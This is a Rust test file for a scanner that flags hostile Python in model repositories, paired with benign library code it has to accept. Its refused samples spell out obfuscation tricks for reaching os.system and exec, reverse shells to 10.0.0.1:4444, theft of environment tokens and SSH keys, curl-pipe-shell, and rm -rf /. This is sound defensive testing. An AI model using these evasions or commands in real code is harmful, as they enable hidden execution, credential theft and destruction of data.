//! Attacks in Python that are found, and code that is none.

mod told;

#[test]
fn programs_that_a_model_runs_are_refused_however_they_are_named() {
    told::all_refused(&[
        ("modeling_x.py", "import os\nos.system('echo inert')\n"),
        ("model.py", "import os as o\nf = o.system\nf('echo inert')\n"),
        ("x.py", "from os import system as s\ns('echo inert')"),
        ("x.py", "from os import *\nsystem('echo inert')"),
        ("x.py", "import os\ngetattr(os, 'sys' + 'tem')('echo inert')"),
        ("x.py", "import os\ngetattr(os, 'metsys'[::-1])('echo inert')"),
        ("x.py", "import os\ngetattr(os, ''.join(reversed('metsys')))('echo inert')"),
        (
            "x.py",
            "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('echo inert')",
        ),
        (
            "x.py",
            "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('echo inert')",
        ),
        ("x.py", "import os\ngetattr(os, 'sXyXsXtXeXm'.replace('X', ''))('echo inert')"),
        ("x.py", "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('echo inert')"),
        ("x.py", "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('echo inert')"),
        ("x.py", "import os\na = 'sys'\ngetattr(os, f'{a}tem')('echo inert')"),
        ("x.py", "import os\nos.__dict__['system']('echo inert')"),
        ("x.py", "import os\nvars(os)['system']('echo inert')"),
        ("x.py", "__import__('os').system('echo inert')"),
        ("x.py", "__import__('o' + 's').system('echo inert')"),
        ("x.py", "import importlib\nimportlib.import_module('os').system('echo inert')"),
        ("x.py", "import sys\nsys.modules['os'].system('echo inert')"),
        ("x.py", "import shutil\nshutil.os.system('echo inert')"),
        ("x.py", "import torch\ntorch.os.system('echo inert')"),
        ("x.py", "import operator, os\noperator.attrgetter('system')(os)('echo inert')"),
        ("x.py", "import subprocess\nsubprocess.Popen(['echo', 'inert'])"),
        ("x.py", "from subprocess import *\nrun('echo inert', shell=True)"),
        ("x.py", "import os\nif True: os.system('echo inert')"),
        ("x.py", "import os; x = 1; os.system('echo inert')"),
        ("x.py", "import os\nclass A:\n    x = os.system('echo inert')\n"),
        ("x.py", "import os\ndef f(x=os.system('echo inert')):\n    pass\n"),
        ("x.py", "import os\n@os.system\n@(lambda f: 'echo inert')\ndef f(): pass"),
        (
            "x.py",
            "import os, socket\nsocket.gethostbyname(os.uname().nodename + '.x.invalid.example')",
        ),
        ("modeling_x.py", "@exec\n@input\nclass X: pass"),
        ("modeling_x.py", "@eval\n@'print(1)'.format\nclass X: pass"),
        ("x.py", "import os\ndef setup():\n    os.system('echo inert')\nsetup()\n"),
        ("x.py", "import os\ndef a():\n    b()\ndef b():\n    os.system('echo inert')\na()\n"),
        ("x.py", "import os\nx = [os.system(c) for c in ['echo inert']]"),
        ("x.py", "import os\nx = (lambda: os.system('echo inert'))()"),
        ("x.py", "import os\nos.environ['A'] = 'b'\nos.system('echo inert')"),
        ("x.py", "import os\nclass B: pass\nB.os = 1\nos.system('echo inert')"),
        ("x.py", "import os\nif (f := os.system) and f('echo inert'): pass"),
        ("x.py", "import os\n# \ros.system('echo inert')\n"),
        ("x.py", "import \u{ff4f}\u{ff53}\n\u{ff4f}\u{ff53}.system('echo inert')"),
        (
            "modeling_x.py",
            "import os\nclass M:\n    def forward(self, x):\n        os.system('echo inert')\n",
        ),
        ("modeling_x.py", "import os\nclass M:\n    run = os.system\n"),
        ("modeling_x.py", "import subprocess\ndef forward(c):\n    return subprocess.run(c)\n"),
        (
            "any.py",
            "import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def forward(self):\n        os.popen('echo inert')\n",
        ),
        ("handler.py", "import pty\ndef handle(): pty.spawn('/bin/sh')\n"),
        ("weights", "import os\nos.system('echo inert')\n"),
        ("x.py", "\u{feff}import os\nos.system('echo inert')\n"),
        ("x.py", "print 'hello'\nimport os\nos.system('echo inert')\n"),
        ("x.py", "def f(:\n  ))\nimport os\nos.system('echo inert')\n"),
        ("x.py", "match x:\n    case 1:\n        pass\nimport os\nos.system('echo inert')"),
    ]);
}

#[test]
fn code_that_is_hidden_is_refused() {
    told::all_refused(&[
        ("x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
        ("x.py", "import base64 as b\ne = exec\ne(b.b64decode(b'cHJpbnQoMSk=').decode('utf-8'))"),
        ("x.py", "import zlib, base64\nexec(zlib.decompress(base64.b64decode(data)))"),
        ("x.py", "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))"),
        ("x.py", "exec(bytes.fromhex('7072696e74283129'))"),
        ("x.py", "exec(''.join(map(chr, [112, 114, 105, 110, 116])))"),
        ("x.py", "exec(''.join(chr(ord(c) ^ 1) for c in data))"),
        ("x.py", "exec(')1(tnirp'[::-1])"),
        ("x.py", "eval(compile(__import__('base64').b64decode('cHJpbnQoMSk='), 'x', 'exec'))"),
        ("x.py", "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))"),
        (
            "x.py",
            "import marshal, types\ntypes.FunctionType(marshal.loads(b'\\xe3abc'), globals())()",
        ),
        ("x.py", "import requests\nexec(requests.get('https://example.org/x').text)"),
        (
            "x.py",
            "from urllib.request import urlopen\nexec(urlopen('https://example.org/x').read())",
        ),
        (
            "x.py",
            "import urllib.request as u\nr = u.urlopen('https://example.org')\nc = r.read().decode()\nexec(c)",
        ),
        ("x.py", "getattr(__builtins__, 'ex' + 'ec')('print(1)')"),
        ("x.py", "globals()['__builtins__']['eval']('1')"),
        ("x.py", "import builtins\nbuiltins.__dict__['eval']('1')"),
        (
            "x.py",
            "().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__['__builtins__']['eval']('1')",
        ),
        (
            "x.py",
            "[].__class__.__base__.__subclasses__()[1].__init__.__globals__['os'].system('echo inert')",
        ),
        (
            "x.py",
            "def d(s):\n    import base64\n    return base64.b64decode(s).decode()\nexec(d('cHJpbnQoMSk='))",
        ),
        ("x.py", "exec('import os; os.system(\"echo inert\")')"),
        ("x.py", "exec('exec(\\'import os; os.system(1)\\')')"),
        ("x.py", "from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(d))"),
        ("x.py", "import os, base64\nos.system(base64.b64decode('ZWNobyBpbmVydA==').decode())"),
        (
            "x.py",
            "import pickle, base64\ndef f():\n    exec(pickle.loads(base64.b64decode('gASVBQ==')))",
        ),
        ("modeling_x.py", "import pickle, base64\npickle.loads(base64.b64decode('gASVBQ=='))"),
        ("x.py", "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\nos.system('echo inert')"),
        (
            "x.py",
            "x = 'a'\nx += 'b'\nimport os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('echo inert')",
        ),
        ("x.py", "import os, json\nn = json.load(open('x'))\ngetattr(os, n)('echo inert')"),
        ("modeling_x.py", "import os\ndef f(n):\n    getattr(os, n[1:])('echo inert')"),
        ("x.py", "import sys\nsys.modules.get('os').system('echo inert')"),
        ("x.py", "import os\nos.__getattribute__('system')('echo inert')"),
        ("x.py", "import os\nobject.__getattribute__(os, 'system')('echo inert')"),
        ("x.py", "import os\nos.__dict__.get('system')('echo inert')"),
        ("x.py", "__loader__.load_module('os').system('echo inert')"),
        ("x.py", "import ctypes\nctypes.CDLL(None).system(b'echo inert')"),
        (
            "modeling_x.py",
            "import pandas as pd\npd.eval(\"@__import__('os').system('echo inert')\")",
        ),
        ("setup.py", "import os\nos.system('echo inert')"),
        ("modeling_x.py", "import os\ndef f(n): return getattr(os, n)\nexec(input())"),
    ]);
}

#[test]
fn attacks_of_other_kinds_are_refused() {
    told::all_refused(&[
        (
            "x.py",
            "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\n",
        ),
        ("modeling_x.py", "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"),
        (
            "modeling_x.py",
            "import os, requests\nrequests.post('https://example.org', json=dict(os.environ))",
        ),
        ("x.py", "import os, requests\nrequests.post('https://example.org', data=str(os.environ))"),
        (
            "modeling_x.py",
            "import os, requests\ndef f():\n    requests.post('https://example.org', json={'t': os.environ['HF_TOKEN']})",
        ),
        ("modeling_x.py", "def f():\n    return open('/root/.ssh/id_rsa').read()"),
        (
            "modeling_x.py",
            "import os\ndef f():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        ),
        ("modeling_x.py", "import shutil\nshutil.rmtree('/home')"),
        ("x.py", "import shutil\ndef f():\n    shutil.rmtree('/')"),
        ("x.py", "import os\ndef f():\n    os.system('curl https://example.org/x | sh')"),
        (
            "x.py",
            "import subprocess\ndef f(u):\n    subprocess.run(f'curl {u} | bash', shell=True)",
        ),
        ("x.py", "import os\ndef f():\n    os.system('rm -rf /')"),
        ("x.py", "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')"),
        ("modeling_x.py", "import ctypes\nctypes.CDLL('./x.so')"),
        ("x.py", "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 4, 0x3000, 0x40)"),
        (
            "modeling_x.py",
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        ),
        ("modeling_x.py", "import pip\ndef f(): pip.main(['install', 'x'])"),
        ("modeling_x.py", "import requests\nrequests.get('https://example.org')"),
        ("modeling_x.py", "import os\nos._exit(1)"),
        (
            "run.ipynb",
            r#"{"cells": [{"cell_type": "code", "source": ["import base64\n", "exec(base64.b64decode('cHJpbnQoMSk='))"]}]}"#,
        ),
        (
            "run.ipynb",
            r#"{"cells": [{"cell_type": "code", "source": "!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}]}"#,
        ),
    ]);
}

#[test]
fn what_libraries_do_is_not_refused() {
    told::none_refused(&[
        (
            "modeling_x.py",
            "import os, torch\nfrom torch import nn\nclass M(nn.Module):\n    def load(self, p):\n        self.eval()\n        return torch.load(os.path.join(p, 'x.bin'), map_location='cpu')\n",
        ),
        ("modeling_x.py", "import re\nP = re.compile('a')\nmodel.eval()\n"),
        (
            "tokenization_x.py",
            "import os\nfrom shutil import copyfile\ndef save(self, d):\n    copyfile(self.v, os.path.join(d, 'x'))\n    with open(os.path.join(d, 'vocab'), 'w', encoding='utf-8') as f:\n        f.write('x')\n",
        ),
        (
            "processing_x.py",
            "import requests\nfrom PIL import Image\ndef load(u):\n    return Image.open(requests.get(u, stream=True).raw)\n",
        ),
        (
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nexec(open('x/version.py').read())\nsetup(name='x')\n",
        ),
        (
            "train.py",
            "import os, subprocess\ndef main():\n    os.system('nvidia-smi')\n    subprocess.run(['python', 'x.py'])\nif __name__ == '__main__':\n    main()\n",
        ),
        (
            "configuration_x.py",
            "from transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    model_type = 'x'\n    def __init__(self, **kwargs):\n        super().__init__(**kwargs)\n",
        ),
        (
            "client.py",
            "import os, requests\ndef call(b):\n    return requests.post('https://api.example.com', headers={'Authorization': f\"Bearer {os.environ['API_KEY']}\"}, json=b)\n",
        ),
        (
            "utils.py",
            "import importlib\ndef load(n):\n    return getattr(importlib.import_module(n), 'X')\n",
        ),
        (
            "plain.py",
            "def walk(cls):\n    for c in cls.__subclasses__():\n        yield c\n    return type(cls).__mro__\n",
        ),
        (
            "flags.py",
            "import os\ndef f(n):\n    return getattr(os, 'O_' + n)\nX = getattr(os, 'O_' + 'RDONLY')\n",
        ),
        ("six.py", "import builtins\nexec_ = getattr(builtins, 'exec')\n"),
        ("README.md", "```python\nimport os\nos.system('ls')\n```\n"),
        (
            "code/__torch__.py",
            "class M(Module):\n  __parameters__ = [\"w\", ]\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = torch.add(x, CONSTANTS.c0, alpha=1)\n    return torch.eval(_0)\n",
        ),
        (
            "flash.py",
            "from torch.utils.cpp_extension import load\nimport os\ndef kernel():\n    return load(name='x', sources=[os.path.join(os.path.dirname(__file__), 'x.cu')])\n",
        ),
    ]);
}

#[test]
fn brackets_beyond_the_limit_are_told_and_cost_no_stack() {
    for open in
        ["(", "[", "{", "lambda: ", "f(", "x[", "-", "not ", "a if b else ", "a.", "await ", "f'{"]
    {
        let source = open.repeat(200_000);
        let findings =
            told::of("x.py", format!("x = {source}\nimport os\nos.system('echo inert')\n"));
        let _ = findings;
    }
    assert!(told::is_refused(&told::of("x.py", "(".repeat(5000))));
}
